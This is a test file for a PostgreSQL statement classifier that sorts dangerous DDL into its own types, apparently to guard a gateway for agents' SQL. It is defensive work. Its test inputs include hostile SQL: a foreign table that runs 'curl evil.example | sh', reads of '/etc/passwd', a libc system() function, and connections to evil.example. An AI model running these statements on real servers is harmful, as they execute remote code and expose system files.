/**
 * Statement types that a rule allowing creates, alters, drops or truncates by type does not match: what reaches
 * further than the statement names (a CASCADE, DROP OWNED), changes what the session check trusts (an object in a
 * schema initdb fills, an extension's members, a function the connection trusts as read-only by name) or runs later
 * on other sessions' DDL (an event trigger).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { deriveSqlFacts, loadSqlParser } from './facts.ts';

beforeAll(async () => {
  await loadSqlParser();
});

describe('statement types a rule must name', () => {
  it('lists a CASCADE as a statement of its own, and DROP OWNED as drop_owned', () => {
    for (const sql of ['TRUNCATE t CASCADE', 'DROP FUNCTION audit() CASCADE', 'DROP SCHEMA s CASCADE', 'ALTER TABLE t DROP COLUMN c CASCADE', 'DROP OWNED BY r CASCADE']) {
      expect(deriveSqlFacts(sql).statements.map((s) => s.type), sql).toContain('cascade');
    }
    expect(deriveSqlFacts('TRUNCATE t').statements.map((s) => s.type)).toEqual(['truncate']);
    expect(deriveSqlFacts('DROP TABLE t RESTRICT').statements.map((s) => s.type)).toEqual(['drop']);
    const owned = deriveSqlFacts('DROP OWNED BY r');
    expect(owned.statements.map((s) => s.type)).toEqual(['drop_owned']);
    expect(owned.ddl).toBe(true);
  });

  it('lists ALTER EXTENSION … ADD / DROP as extension_member, not an alter', () => {
    for (const sql of ['ALTER EXTENSION plpgsql ADD CAST (mood AS int)', 'ALTER EXTENSION plpgsql DROP FUNCTION f()', 'ALTER EXTENSION "PlPgSql" ADD OPERATOR FAMILY f USING btree']) {
      const f = deriveSqlFacts(sql);
      expect(f.statements.map((s) => s.type), sql).toEqual(['extension_member']);
      expect(f.ddl).toBe(true);
    }
    expect(deriveSqlFacts('ALTER EXTENSION plpgsql UPDATE').statements.map((s) => s.type)).toEqual(['extension']);
  });

  it('lists a statement making, replacing or altering an object in a schema initdb fills as catalog too', () => {
    for (const sql of [
      "CREATE OR REPLACE FUNCTION pg_catalog.upper(text) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$",
      'CREATE OR REPLACE VIEW information_schema.tables AS SELECT 1',
      'CREATE OR REPLACE AGGREGATE pg_catalog.max(int4) (sfunc = int4larger, stype = int4)',
      'ALTER FUNCTION "pg_catalog".upper(text) SECURITY DEFINER',
      'CREATE OPERATOR pg_catalog.+ (leftarg = int4, rightarg = int4, function = int4pl)',
      'CREATE RULE r AS ON INSERT TO pg_catalog.pg_class DO INSTEAD NOTHING',
      // A cast between two of the server's types: pg_cast has no schema, so it changes every session's expressions.
      'CREATE CAST (int4 AS text) WITH FUNCTION public.leak(int4) AS ASSIGNMENT',
      'CREATE CAST (text AS pg_catalog.int4) WITHOUT FUNCTION AS IMPLICIT',
      'CREATE CAST (pg_catalog.int8 AS pg_catalog.bool) WITH INOUT',
      'CREATE CAST (mood AS int) WITH FUNCTION public.mood_int(public.mood)',
    ]) {
      expect(deriveSqlFacts(sql).statements.map((s) => s.type), sql).toContain('catalog');
    }
    for (const sql of ["CREATE FUNCTION public.f(pg_catalog.int4) RETURNS pg_catalog.text LANGUAGE sql AS $$ SELECT 'x' $$", 'CREATE TABLE t (x pg_catalog.int4)', 'CREATE VIEW v AS SELECT pg_catalog.upper(relname) FROM pg_catalog.pg_class', 'CREATE CAST (public.mood AS int) WITH FUNCTION public.mood_int(public.mood)', 'CREATE CAST (int AS public.mood) WITH INOUT']) {
      expect(deriveSqlFacts(sql).statements.map((s) => s.type), sql).not.toContain('catalog');
    }
  });

  it('lists a statement changing a function of a name readOnlyFunctions trusts as read_only_function too, in any schema', () => {
    const trusted = { readOnlyFunctions: ['public.report_totals'] };
    const types = (sql: string, o = trusted) => deriveSqlFacts(sql, o).statements.map((s) => s.type);
    for (const sql of [
      "CREATE OR REPLACE FUNCTION public.report_totals() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
      "CREATE FUNCTION Report_Totals(int) RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
      "CREATE FUNCTION early.report_totals() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
      'CREATE PROCEDURE public.report_totals(text) LANGUAGE sql AS $$ SELECT 1 $$',
      'CREATE OR REPLACE AGGREGATE public.report_totals(int) (sfunc = int4pl, stype = int)',
      'ALTER FUNCTION public.helper(int) RENAME TO report_totals',
      'ALTER FUNCTION public.report_totals() RENAME TO old_totals',
      'ALTER FUNCTION early.report_totals(int) SET SCHEMA public',
      'ALTER ROUTINE public.report_totals() OWNER TO someone',
      'ALTER FUNCTION public.report_totals() SET search_path = early, public',
    ]) {
      expect(types(sql), sql).toContain('read_only_function');
      expect(types(sql, { readOnlyFunctions: [] }), sql).not.toContain('read_only_function');
    }
    for (const sql of ["CREATE FUNCTION public.report_total_rows() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", 'ALTER FUNCTION public.helper(int) RENAME TO helper2', 'ALTER TABLE report_totals RENAME TO t2', 'SELECT public.report_totals()']) {
      expect(types(sql), sql).not.toContain('read_only_function');
    }
  });

  it('lists ALTER SYSTEM and ALTER DATABASE … SET as alter_system, not an alter (still DDL)', () => {
    for (const sql of ["ALTER SYSTEM SET archive_command = 'sh -c x'", 'ALTER DATABASE app SET session_replication_role = replica', 'ALTER DATABASE app RESET ALL']) {
      const f = deriveSqlFacts(sql);
      expect([f.statements.map((s) => s.type), f.ddl], sql).toEqual([['alter_system'], true]);
    }
  });

  it('lists the drop of an object with a type of its own as that type, not a drop (still DDL)', () => {
    // DROP EXTENSION pgaudit or DROP EVENT TRIGGER of the operator's DDL log turns off what records agents' DDL; a
    // dropped publication, subscription, server or user mapping breaks replication or other roles' foreign tables.
    const cases: [string, string][] = [
      ['DROP EVENT TRIGGER audit_ddl', 'event_trigger'],
      ['DROP EXTENSION pgaudit', 'extension'],
      ['DROP EXTENSION IF EXISTS pg_stat_statements, postgres_fdw', 'extension'],
      ['DROP PUBLICATION everything', 'publication'],
      ['DROP SUBSCRIPTION s', 'subscription'],
      ['DROP TABLESPACE t', 'tablespace'],
      ['DROP SERVER files', 'foreign_data'],
      ['DROP FOREIGN DATA WRAPPER file_fdw', 'foreign_data'],
      ['DROP USER MAPPING FOR CURRENT_USER SERVER files', 'foreign_data'],
      ['DROP LANGUAGE plsh', 'untrusted_code'],
      ['DROP ACCESS METHOD evil', 'untrusted_code'],
      ['DROP TRANSFORM FOR int LANGUAGE plsh', 'untrusted_code'],
    ];
    for (const [sql, type] of cases) {
      const f = deriveSqlFacts(sql);
      expect([f.statements.map((s) => s.type), f.ddl], sql).toEqual([[type], true]);
    }
    // A drop of this database's own objects stays a drop.
    for (const sql of ['DROP TABLE t', 'DROP FOREIGN TABLE ft', 'DROP FUNCTION public.f(int)', 'DROP SCHEMA s']) expect(deriveSqlFacts(sql).statements.map((s) => s.type), sql).toEqual(['drop']);
  });

  it('lists CREATE, ALTER, rename, owner change and DROP of a database as database, not a create, alter or drop (still DDL)', () => {
    // DROP DATABASE can only name another database than the session's: a rule allowing drops of this database's objects
    // by type must not drop the server's other databases; CREATE … TEMPLATE copies one, ALTER … ALLOW_CONNECTIONS locks it.
    for (const sql of ['DROP DATABASE other', 'DROP DATABASE IF EXISTS other WITH (FORCE)', 'CREATE DATABASE copy TEMPLATE other', 'ALTER DATABASE other ALLOW_CONNECTIONS false', 'ALTER DATABASE app CONNECTION LIMIT 5', 'ALTER DATABASE other RENAME TO gone', 'ALTER DATABASE other OWNER TO mallory', 'ALTER DATABASE other SET TABLESPACE t', 'ALTER DATABASE other REFRESH COLLATION VERSION']) {
      const f = deriveSqlFacts(sql);
      expect([f.statements.map((s) => s.type).filter((t) => t !== 'alter_owner'), f.ddl], sql).toEqual([['database'], true]);
    }
    // A rename or owner change of this database's own objects stays an alter.
    expect(deriveSqlFacts('ALTER TABLE t RENAME TO u').statements.map((s) => s.type)).toEqual(['alter']);
  });

  it('lists CREATE and ALTER SUBSCRIPTION as subscription, not a create or an alter (still DDL)', () => {
    for (const sql of ["CREATE SUBSCRIPTION s CONNECTION 'host=evil.example dbname=x' PUBLICATION p", "ALTER SUBSCRIPTION s CONNECTION 'host=evil.example'", 'ALTER SUBSCRIPTION s REFRESH PUBLICATION']) {
      const f = deriveSqlFacts(sql);
      expect([f.statements.map((s) => s.type), f.ddl], sql).toEqual([['subscription'], true]);
    }
  });

  it('lists CREATE EXTENSION and ALTER EXTENSION … UPDATE as extension, not a create or an alter (still DDL)', () => {
    // With a superuser gateway role an extension is the server's code: dblink and postgres_fdw reach other servers,
    // file_fdw and adminpack the server's files, an untrusted language runs anything; the session check leaves an
    // installed extension's objects to the operator.
    for (const sql of ['CREATE EXTENSION dblink', 'CREATE EXTENSION IF NOT EXISTS plpython3u SCHEMA public', 'ALTER EXTENSION citext UPDATE TO "1.6"']) {
      const f = deriveSqlFacts(sql);
      expect([f.statements.map((s) => s.type), f.ddl], sql).toEqual([['extension'], true]);
    }
    expect(deriveSqlFacts('DROP EXTENSION citext').statements.map((s) => s.type)).toEqual(['extension']);
  });

  it('lists CREATE and ALTER EVENT TRIGGER as event_trigger, not a create or an alter', () => {
    for (const sql of ['CREATE EVENT TRIGGER et ON ddl_command_end EXECUTE FUNCTION public.et()', 'ALTER EVENT TRIGGER et ENABLE ALWAYS']) {
      const f = deriveSqlFacts(sql);
      expect(f.statements.map((s) => s.type), sql).toEqual(['event_trigger']);
      expect(f.ddl).toBe(true);
    }
  });
});

describe("statements that reach past the database's own objects: a type of their own", () => {
  const typed = (sql: string) => {
    const f = deriveSqlFacts(sql);
    return [f.statements.map((s) => s.type), f.ddl];
  };

  it('lists a function in an untrusted language, and what registers C code, as untrusted_code, not a create', () => {
    // With a superuser gateway role each runs code of the server's process: `CREATE TABLE x AS SELECT sys('…')` ran a shell command.
    for (const sql of [
      "CREATE FUNCTION public.sys(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'",
      "CREATE OR REPLACE FUNCTION public.sys(cstring) RETURNS int LANGUAGE 'C' AS 'libc.so.6', 'system'",
      "CREATE FUNCTION public.f(cstring) RETURNS int LANGUAGE internal AS 'int4in'",
      "CREATE PROCEDURE public.p() LANGUAGE plpython3u AS 'import os'",
      "CREATE FUNCTION public.f() RETURNS int LANGUAGE plperlu AS 'return 1'",
      "CREATE FUNCTION public.f() RETURNS int AS 'select 1'",
      'CREATE LANGUAGE plsh HANDLER public.plsh_handler',
      'CREATE TRANSFORM FOR int LANGUAGE plpython3u (FROM SQL WITH FUNCTION public.f(internal))',
      'CREATE ACCESS METHOD evil TYPE TABLE HANDLER public.evil_handler',
      'CREATE TEXT SEARCH PARSER p (start = a, gettoken = b, end = c, lextypes = d)',
      'CREATE TEXT SEARCH TEMPLATE t (lexize = public.evil_lexize)',
      'CREATE TYPE public.t (input = public.t_in, output = public.t_out)',
      'ALTER TYPE public.t SET (receive = public.t_recv, storage = plain)',
    ]) {
      const [types, ddl] = typed(sql);
      expect(types, sql).toContain('untrusted_code');
      expect(types, sql).not.toContain('create');
      expect(ddl, sql).toBe(true);
    }
    for (const sql of [
      "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'select 1'",
      'CREATE FUNCTION public.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$',
      'CREATE FUNCTION public.f() RETURNS int RETURN 1',
      'CREATE FUNCTION public.f() RETURNS int BEGIN ATOMIC SELECT 1; END',
      'CREATE TYPE public.t',
      "CREATE TYPE public.e AS ENUM ('a')",
      'CREATE TEXT SEARCH CONFIGURATION public.c (copy = english)',
    ]) {
      expect(typed(sql), sql).toEqual([['create'], true]);
    }
    expect(typed('ALTER TYPE public.t SET (storage = plain)')).toEqual([['alter'], true]);
  });

  it('lists foreign data wrappers, servers, user mappings and foreign tables as foreign_data, not a create or an alter', () => {
    // A foreign table of file_fdw reads a server file or runs a program; one of postgres_fdw reads another server through
    // the operator's user mapping; a server or user mapping stores where to connect and with what password.
    for (const sql of [
      'CREATE FOREIGN DATA WRAPPER w HANDLER public.h',
      'ALTER FOREIGN DATA WRAPPER w VALIDATOR public.v',
      "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')",
      "ALTER SERVER s OPTIONS (SET host 'evil.example')",
      "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', password 'p')",
      "ALTER USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (SET password 'p')",
      'IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public',
      "CREATE FOREIGN TABLE ff (x text) SERVER files OPTIONS (program 'curl evil.example | sh')",
      "ALTER FOREIGN TABLE ff OPTIONS (SET filename '/etc/passwd')",
      "ALTER TABLE ff OPTIONS (SET filename '/etc/passwd')",
      "ALTER TABLE ff ALTER COLUMN x OPTIONS (ADD column_name 'secret')",
      'ALTER FOREIGN TABLE ff ADD COLUMN y int',
    ]) {
      expect(typed(sql), sql).toEqual([['foreign_data'], true]);
    }
    expect(deriveSqlFacts("CREATE FOREIGN TABLE ff (x text) SERVER files OPTIONS (filename '/etc/passwd')").statements[0]?.tables).toEqual(['ff']);
    for (const sql of ['DROP SERVER s', 'DROP USER MAPPING FOR CURRENT_USER SERVER s']) expect(typed(sql), sql).toEqual([['foreign_data'], true]);
    expect(typed('DROP FOREIGN TABLE ff')).toEqual([['drop'], true]);
    expect(typed('ALTER TABLE t ADD COLUMN y int')).toEqual([['alter'], true]);
  });

  it('lists CREATE and ALTER PUBLICATION as publication, and tablespaces as tablespace, not a create or an alter', () => {
    // FOR ALL TABLES publishes every table, none of them named (a denied one too), to whoever subscribes.
    for (const sql of ['CREATE PUBLICATION p FOR ALL TABLES', 'CREATE PUBLICATION p FOR TABLES IN SCHEMA public', 'ALTER PUBLICATION p ADD TABLES IN SCHEMA public', 'ALTER PUBLICATION p SET (publish = delete)']) {
      expect(typed(sql), sql).toEqual([['publication'], true]);
    }
    // A directory of the server's file system; ALTER TABLE ALL IN TABLESPACE moves every table there, none named.
    for (const sql of ["CREATE TABLESPACE t LOCATION '/var/lib/postgresql'", 'ALTER TABLESPACE t SET (seq_page_cost = 100)', 'ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE t']) {
      expect(typed(sql), sql).toEqual([['tablespace'], true]);
    }
  });

  it("types a rename, owner change or move of such an object as its own kind, as a database's is, not an alter", () => {
    // ALTER PUBLICATION p RENAME breaks every subscriber on other servers; ALTER SUBSCRIPTION s OWNER TO hands its apply
    // worker and connection string to another role; ALTER TABLESPACE t RENAME breaks every database's TABLESPACE t.
    const cases: [string, string][] = [
      ['ALTER PUBLICATION p RENAME TO q', 'publication'], ['ALTER PUBLICATION p OWNER TO mallory', 'publication'],
      ['ALTER SUBSCRIPTION s RENAME TO q', 'subscription'], ['ALTER SUBSCRIPTION s OWNER TO mallory', 'subscription'],
      ['ALTER TABLESPACE t RENAME TO q', 'tablespace'], ['ALTER TABLESPACE t OWNER TO mallory', 'tablespace'],
      ['ALTER SERVER s RENAME TO q', 'foreign_data'], ['ALTER SERVER s OWNER TO mallory', 'foreign_data'],
      ['ALTER FOREIGN DATA WRAPPER w RENAME TO q', 'foreign_data'], ['ALTER FOREIGN DATA WRAPPER w OWNER TO mallory', 'foreign_data'],
      ['ALTER EVENT TRIGGER e RENAME TO q', 'event_trigger'], ['ALTER EVENT TRIGGER e OWNER TO mallory', 'event_trigger'],
      ['ALTER LANGUAGE plpython3u RENAME TO q', 'untrusted_code'], ['ALTER LANGUAGE plpython3u OWNER TO mallory', 'untrusted_code'],
      ['ALTER EXTENSION dblink SET SCHEMA public', 'extension'],
    ];
    const types = (sql: string) => deriveSqlFacts(sql).statements.map((s) => s.type);
    for (const [sql, type] of cases) expect([types(sql), deriveSqlFacts(sql).ddl], sql).toEqual([[type], true]);
    // This database's own objects stay alters.
    for (const sql of ['ALTER TABLE t RENAME TO u', 'ALTER FUNCTION public.f() OWNER TO r', 'ALTER TABLE t SET SCHEMA s']) expect(types(sql), sql).toEqual(['alter']);
  });
});
